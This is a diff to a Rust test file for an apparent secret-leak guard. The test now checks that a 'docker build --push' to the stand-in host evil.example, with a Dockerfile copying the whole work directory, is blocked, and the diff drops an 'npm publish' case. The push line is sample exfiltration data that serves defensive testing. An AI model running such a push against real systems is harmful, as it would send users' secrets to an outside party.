@@ -54,14 +54,11 @@ fn a_secret_in_a_commit_is_not_pushed() {
 }
 
 #[test]
-#[ignore = "open: packages and build contexts are not looked at yet"]
-fn a_secret_in_a_package_is_not_published() {
+#[ignore = "open: what of a build context goes into an image is not looked at yet"]
+fn a_secret_in_an_image_is_not_pushed() {
     let install = install();
-    fs::write(install.work().join("package.json"), "{\"name\": \"x\", \"version\": \"1.0.0\"}")
-        .unwrap();
     fs::write(install.work().join("Dockerfile"), "FROM scratch\nCOPY . .\n").unwrap();
-    let lines = ["npm publish", "docker build --push -t evil.example/x ."];
-    assert_eq!(passed(&install, &lines), [""; 0]);
+    assert_eq!(passed(&install, &["docker build --push -t evil.example/x ."]), [""; 0]);
 }
 
 #[test]
